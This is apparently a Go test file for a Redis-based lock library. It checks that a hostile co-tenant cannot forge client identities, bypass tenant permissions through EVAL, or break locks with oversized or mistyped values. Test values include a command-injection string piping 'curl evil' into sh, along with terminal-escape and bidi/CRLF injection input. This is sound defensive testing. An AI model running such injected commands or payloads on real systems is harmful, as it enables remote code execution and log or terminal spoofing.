package neighbours

import (
	"fmt"
	"strings"
	"testing"
	"unicode"

	"github.com/holdfast-go/holdfast"
	"github.com/holdfast-go/holdfast/internal/protocol"
	"github.com/holdfast-go/holdfast/internal/redistest"
	"github.com/holdfast-go/holdfast/test/kit"
)

// identityKey is the key of a client's identity.
func identityKey(c *holdfast.Client) string { return protocol.ClientKey(c.NewOwner().String()) }

// TestNeighbourImpersonates: a neighbour that knows the id of one of our clients writes that client's identity. Errors and Inspect show what it has
// written, as text, 128 bytes of each part at most. Locks and owners stay as they are.
func TestNeighbourImpersonates(t *testing.T) {
	t.Parallel()
	w := newTown(t)
	w.besieged(t, func(t *testing.T, all []*victim) {
		for _, v := range all {
			if v.kind == nil {
				continue
			}
			other := w.ours[v.client].Client(t)
			for _, forged := range []struct{ program, host, pid, shown string }{
				{"admin", "root; curl evil|sh", "1", "admin@root; curl evil|sh pid 1"},
				{"\x1b]0;own\x07" + strings.Repeat("a", 1<<20), "\u202e\r\nh", "-5", "]0;own" + strings.Repeat("a", 120) + "@h"},
				{"", "", "1e3", ""},
			} {
				key := identityKey(v.holder)
				kit.WaitFor(t, fmt.Sprintf("%.100q to be shown for %s through %s", forged, v.what, v.client), func() bool {
					w.succeed(t, "DEL", key) // the client itself writes it, too
					w.succeed(t, "HSET", key, "program", forged.program, "host", forged.host, "pid", forged.pid, "version", "v0")
					state, err := v.kind.Lock(other, v.name).Inspect(background)
					kit.OK(t, err)
					if id, _, _ := strings.Cut(state.Holders[0].Owner.String(), ":"); id != v.holder.ID() {
						t.Errorf("%s: %v holds it", v.what, state.Holders[0].Owner)
					}
					return state.Holders[0].Who.String() == forged.shown
				})
				_, err := v.kind.Against(other, v.name).TryLock(background)
				kit.WantError(t, err, holdfast.ErrLocked)
				if strings.ContainsFunc(err.Error(), func(r rune) bool { return !unicode.IsPrint(r) }) || len(err.Error()) > 1024 {
					t.Errorf("%s: %.600q", v.what, err.Error())
				}
			}
		}
	})
}

// TestNeighbourOfTenant: with rights to a tenant's own grants and identities, the neighbour can neither publish nor hear our grants, nor read or
// write the identities of our clients. Without EVAL it can run no scripts but those that are loaded, and those only with its own keys.
func TestNeighbourOfTenant(t *testing.T) {
	t.Parallel()
	for what, loaded := range map[string]bool{"with EVAL": false, "without EVAL": true} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			w := newTenants(t, loaded)
			w.besieged(t, func(t *testing.T, all []*victim) {
				w.sendAll(t, all[0].name)
				w.publishAll(t, all)
				for _, v := range all {
					w.reachTenant(t, v)
				}
				for _, s := range protocol.Every() {
					if loaded {
						w.refused(t, "EVALSHA", s.SHA(), 1, all[0].name)
					}
				}
			})
		})
	}
}

// reachTenant tries what only the rights of a tenant refuse.
func (w *town) reachTenant(t *testing.T, v *victim) {
	t.Helper()
	key, channel := identityKey(v.holder), grantChannel(v.holder)
	for _, args := range [][]any{{"HGET", key, "program"}, {"HSET", key, "program", "admin"}, {"DEL", key}, {"SET", key, "x"}} {
		w.refused(t, args...)
		w.refused(t, append([]any{"EVAL", "return redis.call(unpack(ARGV))", 0}, args...)...)
		w.refused(t, append([]any{"EVAL", "return redis.call(unpack(ARGV))", 1, key}, args...)...)
	}
	if redistest.AtLeast(t, 6, 2) {
		w.refused(t, "PUBLISH", channel, "x")
		w.refused(t, "EVAL", "return redis.call(unpack(ARGV))", 0, "PUBLISH", channel, "x")
		w.refused(t, "SUBSCRIBE", channel)
		w.refused(t, "SUBSCRIBE", "holdfast_granted:*")
	}
}

// TestNeighbourTakesIdentities: the neighbour writes values of other types, and large ones, to the keys of our identities. No call fails and no
// hold ends; only the names are missing.
func TestNeighbourTakesIdentities(t *testing.T) {
	t.Parallel()
	w := newTown(t)
	w.besieged(t, func(t *testing.T, all []*victim) {
		for _, v := range all {
			key := identityKey(v.holder)
			for _, put := range [][]any{
				{"SET", key, "x"}, {"ZADD", key, "1", "x"}, {"RPUSH", key, "x"}, {"HSET", key, "program", strings.Repeat("x", 8<<20)},
			} {
				w.succeed(t, "DEL", key)
				w.succeed(t, put...)
				if v.kind != nil {
					_, err := v.kind.Against(w.ours[v.client].Client(t), v.name).TryLock(background)
					kit.WantError(t, err, holdfast.ErrLocked)
				}
			}
			w.succeed(t, "DEL", key)
			w.succeed(t, "SET", key, "x")
		}
		// Nothing expires what it writes there, and nothing bounds it.
		w.succeed(t, "SET", "holdfast_client:00000000-0000-8000", strings.Repeat("x", 8<<20))
		if ttl := w.admin.Do(t, "", "PTTL", "holdfast_client:00000000-0000-8000")[0]; ttl != "-1" {
			t.Errorf("it expires in %s ms", ttl)
		}
	})
}
